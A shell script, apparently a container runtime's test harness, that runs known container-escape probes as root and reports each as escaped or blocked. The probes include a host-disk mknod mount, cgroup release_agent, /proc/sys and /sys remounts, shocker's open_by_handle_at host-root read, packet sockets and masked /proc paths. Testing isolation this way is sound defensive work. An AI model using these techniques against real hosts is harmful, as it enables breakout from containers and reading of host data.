#!/bin/sh
# Escape attempts, run as root inside a container by test/escape.test.ts:
#   sh /escape-attempts.sh NAME...
# For each NAME, one line: "NAME escaped <evidence>" (root inside reached
# the host) or "NAME blocked <error>".
#
# Each attempt undoes what it did, and none writes to the host: files are
# opened for writing without a byte written, mounts it makes are read-only
# (or detached and never attached), and /sys and /proc are only ever
# remounted with "remount,bind" (a superblock remount would change the
# host's own /sys or /proc).
#
# What it needs from the host, the test writes into the rootfs beforehand:
#   /escape.env       DISK_MAJOR DISK_MINOR DISK_FSTYPE (the host's root
#                     disk), MARKER_PATH (a file on it) and MARKER_TEXT (its
#                     content), CGROUP_NAME (a memory cgroup the test made)
#   /escape-keyring   the session keyring serial of a host process beside
#                     the container's (the keyring attempt compares it)
#   /escape-disk      a node of a host's block device (a loop device over a
#                     host file that begins with a marker)
#   perl (and its libraries), for the system calls busybox has no applet for
set -u
# perl: the host's, without its locales.
export LC_ALL=C

# shellcheck source=/dev/null
. /escape.env

# say NAME escaped|blocked TEXT: TEXT on one line.
# printable: the first line of stdin, without its control and non-ASCII bytes, at most 100 characters.
printable() {
  head -n 1 | tr -d '\000-\037\177-\377' | cut -c 1-100
}

say() {
  printf '%s %s %s\n' "$1" "$2" "$(printf '%s' "$3" | tr '\n\t' '  ' | sed 's/  */ /g; s/ *$//')"
}

# Does a file open for writing (without a byte written, then closed)? Only
# one that is there: ">>" would make a missing one.
openw() {
  if ! [ -e "$1" ]; then
    echo "no $1"
    return 1
  fi
  (exec 3>>"$1") 2>&1
}

# mknod-disk: a node for the host's root disk in /dev, mounted read-only.
# (A read-only mount of a filesystem mounted read-write is refused, EBUSY:
# the superblock is shared. So perl makes it with fsopen/fsmount, read-only
# as a mount, never attached anywhere, and reads the host's marker through
# the mount's fd.)
mknod_disk() {
  node=/dev/escape-disk-node
  if ! err=$(mknod "$node" b "$DISK_MAJOR" "$DISK_MINOR" 2>&1); then
    say mknod-disk blocked "mknod $DISK_MAJOR:$DISK_MINOR: $err"
    return
  fi
  # shellcheck disable=SC2016 # perl's variables
  if out=$(perl -e '
    my ($dev, $type, $rel) = @ARGV;
    my $key = "source";
    my $fs = syscall(430, $type, 1);                     # fsopen(type, FSOPEN_CLOEXEC)
    $fs >= 0 or die "fsopen $type: $!\n";
    syscall(431, $fs, 1, $key, $dev, 0) == 0             # fsconfig(FSCONFIG_SET_STRING)
      or die "fsconfig source $dev: $!\n";
    syscall(431, $fs, 6, 0, 0, 0) == 0 or die "mount $dev: $!\n";   # FSCONFIG_CMD_CREATE
    my $m = syscall(432, $fs, 1, 1);                     # fsmount(FSMOUNT_CLOEXEC, MOUNT_ATTR_RDONLY)
    $m >= 0 or die "fsmount $dev: $!\n";
    my $fd = syscall(257, $m, $rel, 0);                  # openat(mount, rel, O_RDONLY)
    $fd >= 0 or die "open $rel on $dev: $!\n";
    open(my $f, "<&=", $fd) or die "$rel: $!\n";
    print <$f>;
  ' "$node" "$DISK_FSTYPE" "${MARKER_PATH#/}" 2>&1); then
    case $out in
    *"$MARKER_TEXT"*) say mknod-disk escaped "mounted $DISK_MAJOR:$DISK_MINOR read-only, read the host's $MARKER_PATH: $out" ;;
    *) say mknod-disk blocked "mounted $DISK_MAJOR:$DISK_MINOR, but $MARKER_PATH holds: $out" ;;
    esac
  else
    say mknod-disk blocked "$out"
  fi
  rm -f "$node"
}

# image-node: the image's own node of a host's block device, read.
image_node() {
  node=/escape-disk
  if ! err=$(head -c 4096 $node 2>&1 >/dev/null); then
    say image-node blocked "read $node: $err"
    return
  fi
  bytes=$(head -c 4096 $node | wc -c)
  if [ "$bytes" -gt 0 ]; then
    say image-node escaped "read $bytes bytes of the host's block device $(stat -c '%t:%T (hex)' $node): $(head -c 4096 $node | printable)"
  else
    say image-node blocked "$node reads as empty"
  fi
}

# cgroup-release-agent: a cgroup v1 hierarchy of its own, whose
# release_agent (run by the host's kernel, as the host's root) opens for writing.
cgroup_release_agent() {
  d=/tmp/escape-cg
  mkdir -p "$d"
  if ! err=$(mount -t cgroup -o none,name=minc-escape cgroup "$d" 2>&1); then
    say cgroup-release-agent blocked "mount cgroup v1 (name=minc-escape): $err"
  elif ! [ -e "$d/release_agent" ]; then
    say cgroup-release-agent blocked "mounted, but no release_agent: $(ls "$d")"
  elif err=$(openw "$d/release_agent"); then
    say cgroup-release-agent escaped "mounted a cgroup v1 hierarchy, its release_agent opens for writing"
  else
    say cgroup-release-agent blocked "open release_agent for writing: $err"
  fi
  umount "$d" 2>/dev/null
  rmdir "$d"
}

# cgroup-host-memory: the host's memory hierarchy, mounted read-only, shows
# the host's cgroups (the one the test made on the host).
cgroup_host_memory() {
  d=/tmp/escape-mem
  mkdir -p "$d"
  if ! err=$(mount -t cgroup -o ro,memory cgroup "$d" 2>&1); then
    say cgroup-host-memory blocked "mount the memory cgroup v1 hierarchy: $err"
  elif [ -d "$d/$CGROUP_NAME" ]; then
    say cgroup-host-memory escaped "sees the host's memory cgroup $CGROUP_NAME among $(find "$d" -mindepth 1 -maxdepth 1 -type d | wc -l)"
  else
    say cgroup-host-memory blocked "mounted, but no $CGROUP_NAME in it: $(find "$d" -mindepth 1 -maxdepth 1 -type d | wc -l) dirs"
  fi
  umount "$d" 2>/dev/null
  rmdir "$d"
}

CORE=/proc/sys/kernel/core_pattern

# proc-sys-remount: /proc/sys made writable again, core_pattern opened for writing.
proc_sys_remount() {
  if ! err=$(mount -o remount,bind,rw /proc/sys 2>&1); then
    say proc-sys-remount blocked "mount -o remount,bind,rw /proc/sys: $err"
    return
  fi
  if err=$(openw $CORE); then
    say proc-sys-remount escaped "remounted /proc/sys read-write, $CORE opens for writing"
  else
    say proc-sys-remount blocked "remounted /proc/sys read-write, but open $CORE for writing: $err"
  fi
  mount -o remount,bind,ro /proc/sys
}

# proc-sys-umount: the read-only /proc/sys unmounted, core_pattern opened for writing.
proc_sys_umount() {
  if ! err=$(umount /proc/sys 2>&1); then
    say proc-sys-umount blocked "umount /proc/sys: $err"
    return
  fi
  if err=$(openw $CORE); then
    say proc-sys-umount escaped "unmounted /proc/sys, $CORE opens for writing"
  else
    say proc-sys-umount blocked "unmounted /proc/sys, but open $CORE for writing: $err"
  fi
  mount --bind /proc/sys /proc/sys && mount -o remount,bind,ro /proc/sys
}

# fresh-proc: a new proc mount, whose sys is not read-only.
fresh_proc() {
  d=/tmp/escape-proc
  mkdir -p "$d"
  if ! err=$(mount -t proc proc "$d" 2>&1); then
    say fresh-proc blocked "mount -t proc: $err"
  elif err=$(openw "$d/sys/kernel/core_pattern"); then
    say fresh-proc escaped "mounted a new proc, its sys/kernel/core_pattern opens for writing"
  else
    say fresh-proc blocked "mounted a new proc, but open its core_pattern for writing: $err"
  fi
  umount "$d" 2>/dev/null
  rmdir "$d"
}

# sys-rw: /sys made writable, a root-writable file of the host's opened for writing.
sys_rw() {
  target=
  for f in /sys/kernel/uevent_helper /sys/kernel/profiling /sys/power/state /sys/kernel/mm/transparent_hugepage/enabled; do
    if [ -f "$f" ]; then
      target=$f
      break
    fi
  done
  if [ -z "$target" ]; then
    say sys-rw blocked "none of the root-writable files of /sys is there (/sys has: $(ls /sys))"
    return
  fi
  if ! err=$(mount -o remount,bind,rw /sys 2>&1); then
    say sys-rw blocked "mount -o remount,bind,rw /sys: $err"
    return
  fi
  if err=$(openw "$target"); then
    say sys-rw escaped "remounted /sys read-write, $target opens for writing"
  else
    say sys-rw blocked "remounted /sys read-write, but open $target for writing: $err"
  fi
  mount -o remount,bind,ro /sys
}

# kmsg: the host's kernel log. Opening /proc/kmsg is where the kernel checks
# (CAP_SYSLOG); a read would take the messages from the host's own reader,
# so it is opened (non-blocking) and closed. dmesg reads without taking.
kmsg() {
  # shellcheck disable=SC2016 # perl's variables
  if err=$(perl -e 'sysopen(my $f, "/proc/kmsg", 04000) or die "open /proc/kmsg: $!\n"' 2>&1); then
    opened="/proc/kmsg opens for reading"
  else
    opened=
  fi
  lines=$(dmesg 2>/dev/null | wc -l)
  if [ "$lines" -gt 0 ]; then
    say kmsg escaped "${opened:+$opened, }dmesg printed $lines lines of the host's kernel log: $(dmesg | tail -n 1)"
  elif [ -n "$opened" ]; then
    say kmsg escaped "$opened"
  else
    say kmsg blocked "$err; dmesg: $(dmesg 2>&1 | head -n 1)"
  fi
}

# shocker: a file handle for the root of the host's filesystem, opened
# through the mount of /etc/hosts (a host file bound in).
shocker() {
  # shellcheck disable=SC2016 # perl's variables
  if out=$(perl -e '
    my ($rel, $text) = @ARGV;
    my $hosts = "/etc/hosts";
    open(my $h, "<", $hosts) or die "open $hosts: $!\n";
    my $handle = pack("Ll", 128, 0) . ("\0" x 128);
    my $mount = "\0" x 4;
    syscall(303, -100, $hosts, $handle, $mount, 0) == 0       # name_to_handle_at(AT_FDCWD)
      or die "name_to_handle_at /etc/hosts: $!\n";
    my ($bytes, $type) = unpack("Ll", $handle);
    $type == 1 && $bytes == 8                                   # FILEID_INO32_GEN: ino, generation
      or die "handle of type $type ($bytes bytes), not the ino32+gen of ext2/3/4\n";
    my $root = pack("LlLL", 8, 1, 2, 0);                        # inode 2, generation 0: the root
    my $fd = syscall(304, fileno($h), $root, 0200000);          # open_by_handle_at(O_DIRECTORY)
    $fd >= 0 or die "open_by_handle_at (inode 2): $!\n";
    opendir(my $d, "/proc/self/fd/$fd") or die "opendir the handle: $!\n";
    my @names = sort grep { !/^\.\.?$/ } readdir $d;
    open(my $m, "<", "/proc/self/fd/$fd/$rel") or die "opened the root (@names), but $rel: $!\n";
    my $got = join "", <$m>;
    index($got, $text) >= 0 or die "opened the root (@names), but $rel holds $got\n";
    print "opened the host filesystem root by handle (@names), read /$rel: $got";
  ' "${MARKER_PATH#/}" "$MARKER_TEXT" 2>&1); then
    say shocker escaped "$out"
  else
    say shocker blocked "$out"
  fi
}

# packet-socket: on the host's network (no --net), a packet socket sees
# every frame of the host's interfaces (opened only, nothing is read).
packet_socket() {
  # shellcheck disable=SC2016 # perl's variables
  if out=$(perl -e '
    socket(my $s, 17, 3, 0x0300) or die "socket(AF_PACKET, SOCK_RAW, ETH_P_ALL): $!\n";   # (htons(ETH_P_ALL))
    print "a packet socket on the host network opened";
  ' 2>&1); then
    say packet-socket escaped "$out"
  else
    say packet-socket blocked "$out"
  fi
}

# keyring: the container's session keyring is the host's.
keyring() {
  host=$(cat /escape-keyring)
  # shellcheck disable=SC2016 # perl's variables
  if ! serial=$(perl -e '
    my $s = syscall(250, 0, -3, 0);          # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING)
    $s >= 0 or die "keyctl get session keyring: $!\n";
    print $s;
  ' 2>&1); then
    say keyring blocked "$serial"
  elif [ "$serial" = "$host" ]; then
    say keyring escaped "session keyring $serial is the host's"
  else
    say keyring blocked "session keyring $serial is not the host's $host"
  fi
}

# masked-NAME: a path podman masks shows the host's content.
masked() {
  name=masked-$1
  path=$2
  if [ -d "$path" ]; then
    if ! entries=$(ls -A "$path" 2>&1); then
      say "$name" blocked "ls $path: $entries"
    elif [ -n "$entries" ]; then
      say "$name" escaped "$path lists $entries"
    else
      say "$name" blocked "$path is empty"
    fi
  elif [ -e "$path" ]; then
    if ! err=$(head -c 4096 "$path" 2>&1 >/dev/null); then
      say "$name" blocked "read $path: $err"
      return
    fi
    bytes=$(head -c 4096 "$path" | wc -c)
    if [ "$bytes" -gt 0 ]; then
      say "$name" escaped "$path gives $bytes bytes: $(head -c 4096 "$path" | printable)"
    else
      say "$name" blocked "$path is empty"
    fi
  else
    say "$name" blocked "no $path"
  fi
}

# new-userns: a user namespace of its own.
new_userns() {
  own=$(readlink /proc/self/ns/user)
  if new=$(unshare -U readlink /proc/self/ns/user 2>&1) && [ "$new" != "$own" ]; then
    say new-userns escaped "unshare -U: a new user namespace $new (the container's is $own)"
  else
    say new-userns blocked "unshare -U: $new"
  fi
}

for attempt in "$@"; do
  case $attempt in
  mknod-disk) mknod_disk ;;
  image-node) image_node ;;
  cgroup-release-agent) cgroup_release_agent ;;
  cgroup-host-memory) cgroup_host_memory ;;
  proc-sys-remount) proc_sys_remount ;;
  proc-sys-umount) proc_sys_umount ;;
  fresh-proc) fresh_proc ;;
  sys-rw) sys_rw ;;
  kmsg) kmsg ;;
  shocker) shocker ;;
  keyring) keyring ;;
  packet-socket) packet_socket ;;
  masked-kcore) masked kcore /proc/kcore ;;
  masked-keys) masked keys /proc/keys ;;
  masked-timer_list) masked timer_list /proc/timer_list ;;
  masked-sched_debug) masked sched_debug /proc/sched_debug ;;
  masked-scsi) masked scsi /proc/scsi ;;
  masked-acpi) masked acpi /proc/acpi ;;
  masked-latency_stats) masked latency_stats /proc/latency_stats ;;
  masked-firmware) masked firmware /sys/firmware ;;
  new-userns) new_userns ;;
  *) say "$attempt" unknown "no such attempt" ;;
  esac
done
